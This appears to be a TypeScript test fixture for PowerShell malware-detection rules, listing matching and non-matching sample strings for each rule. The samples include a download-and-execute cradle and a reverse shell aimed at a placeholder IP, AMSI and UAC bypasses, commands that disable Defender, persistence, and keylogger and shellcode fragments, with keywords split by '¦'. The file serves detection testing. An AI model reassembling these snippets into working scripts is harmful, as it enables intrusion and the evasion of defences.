import { type RuleCase, wide } from './rule-case.ts'

const HTTP = 'http://192.0.2.1/a'
/** As -EncodedCommand takes it: Base64 of UTF-16. */
const ENCODED = Buffer.from(wide(`IE¦X (New-Object Net.Web¦Client).Download¦String('${HTTP}')`), 'latin1').toString(
  'base64',
)
const PLAIN = Buffer.from(wide('Get-ChildItem | Where-Object Length -gt 1MB | Sort-Object Name'), 'latin1').toString(
  'base64',
)

export const POWERSHELL_CASES: readonly RuleCase[] = [
  {
    rule: 'PowerShell_Download_Cradle',
    hit: `IE¦X (New-Object Net.Web¦Client).Download¦String('${HTTP}')`,
    swap: ['IE¦X (', '$text = ('],
    because: 'what is fetched is kept, not run',
    moreHits: [`ie¦x (iw¦r ${HTTP})`],
    moreMisses: ['iex is short for Invoke-Expression'],
  },
  {
    rule: 'PowerShell_Hidden_Encoded_Command',
    hit: `power¦shell.exe -nop -w hid¦den -enc ${PLAIN}`,
    swap: ['-w hid¦den', '-w normal'],
    because: 'the window is seen',
    moreHits: [`power¦shell -enc ${PLAIN} -WindowStyle Hid¦den`],
    moreMisses: ['power¦shell -w hid¦den -file backup.ps1', 'use -w hidden and -enc BASE64'],
  },
  {
    rule: 'PowerShell_Encoded_Cradle',
    hit: `x ${ENCODED} y`,
    swap: [ENCODED, PLAIN],
    because: 'an encoded command that lists files',
  },
  {
    rule: 'PowerShell_Amsi_Bypass',
    hit: "[Ref].Assembly.GetType('System.Management.Automation.Amsi¦Utils').GetField('amsiInit¦Failed','NonPublic,Static').SetValue($null,$true)",
    swap: ['.SetValue(', '.GetValue('],
    because: 'it asks only',
  },
  {
    rule: 'PowerShell_Patches_Scan_Function',
    hit: '$a = GetProc¦Address $lib "Amsi¦ScanBuffer"; Virtual¦Protect $a; [Runtime.InteropServices.Mar¦shal]::Copy($b, 0, $a, 6)',
    swap: ['Amsi¦ScanBuffer', 'MessageBoxA'],
    because: 'another function',
  },
  {
    rule: 'PowerShell_Loads_Assembly_From_Text',
    hit: '[Reflection.Assem¦bly]::Load([Convert]::FromBase¦64String($t)).EntryPoint.In¦voke($null, $null)',
    swap: ['.EntryPoint.In¦voke(', '.FullName('],
    because: 'it does not call what it loads',
  },
  {
    rule: 'PowerShell_Runs_Shellcode',
    hit: 'Add-¦Type -M \'[Dll¦Import("kernel32")] Virtual¦Alloc; Create¦Thread\'; [Runtime.InteropServices.Mar¦shal]::Copy($c, 0, $p, 9)',
    swap: ['Create¦Thread', 'GetLastError'],
    because: 'nothing starts the memory',
  },
  {
    rule: 'PowerShell_Runs_Compressed_Text',
    hit: 'IE¦X (New-Object IO.Stream¦Reader((New-Object IO.Compression.Gzip¦Stream([Convert]::FromBase¦64String($t))))).ReadTo¦End()',
    swap: ['IE¦X ', '$text = '],
    because: 'the text is kept, not run',
  },
  {
    rule: 'PowerShell_Scattered_Words',
    hit: '.("{1}{0}"-f "b","a"); '.repeat(2) + '("{3}{1}{0}{2}"-f "a","b","c","d"); '.repeat(7),
    swap: ['("{3}{1}{0}{2}"-f', '("{0} of {1}" -f'],
    because: 'the operator as it is meant',
  },
  {
    rule: 'PowerShell_Reverse_Shell',
    hit: '$c = New-Object Net.Sockets.TCP¦Client("192.0.2.1", 9); $s = $c.Get¦Stream(); $o = (ie¦x $d | Out-¦String); $s.Write($o)',
    swap: ['ie¦x $d', 'Get-Date'],
    because: 'it sends the time, and runs nothing',
  },
  {
    rule: 'PowerShell_Defender_Off',
    hit: 'Set-Mp¦Preference -DisableRealtime¦Monitoring $true',
    swap: ['$true', '$false'],
    because: 'it switches the scanner on',
    moreHits: ["Add-Mp¦Preference -Exclusion¦Path 'C:\\'"],
    moreMisses: ["Add-MpPreference -ExclusionPath 'C:\\Program Files\\Backup'"],
  },
  {
    rule: 'PowerShell_Uac_Bypass',
    hit: "New-Item 'HKCU:\\Software\\Classes\\ms-set¦tings\\shell\\open\\command' -Name Delegate¦Execute; Start-Process fod¦helper.exe",
    swap: ['fod¦helper', 'notepad'],
    because: 'it starts no program that is raised by itself',
  },
  {
    rule: 'PowerShell_Run_Key_With_Hidden_Command',
    hit: 'reg add HKCU\\Software\\Microsoft\\Windows\\Current¦Version\\Run /v a /d "power¦shell -w hid¦den -file a.ps1"',
    swap: ['power¦shell -w hid¦den', 'agent.exe --service'],
    because: 'an ordinary program',
  },
  {
    rule: 'PowerShell_Fetches_And_Starts_Hidden',
    hit: `Invoke-Web¦Request ${HTTP} -OutFile "$env:te¦mp\\a.exe"; Start-Pro¦cess "$env:te¦mp\\a.exe" -WindowStyle Hid¦den`,
    swap: ['-WindowStyle Hid¦den', '-Wait'],
    because: 'an installer that is seen',
  },
  {
    rule: 'PowerShell_Keylogger',
    hit: 'Add-¦Type \'[Dll¦Import("user32")] GetAsync¦KeyState; GetKeyboard¦State; ToUni¦code\'; [IO.File]::AppendAll¦Text($f, $k)',
    swap: ['AppendAll¦Text', 'Exists'],
    because: 'it writes nothing down',
  },
  {
    rule: 'PowerShell_Rc4_Stager',
    hit: '$R={$D,$K=$Ar¦gs;$S=0..2¦55;0..255|%{$J=($J+$S[$_])%2¦56];$_-bx¦or$S[0]}',
    swap: ['$D,$K=$Ar¦gs', '$D,$K=1,2'],
    because: 'another code',
  },
  {
    rule: 'PowerShell_Fetches_Hidden_In_Picture',
    hit: "$b = $c.Download¦Data('http://192.0.2.1/a.jpg'); '<<BASE64_¦START>>'; '<<BASE64_¦END>>'; [Reflection.Assem¦bly]::Load($x)",
    swap: ['[Reflection.Assem¦bly]::Load(', 'Out-File('],
    because: 'it keeps what it finds',
  },
]
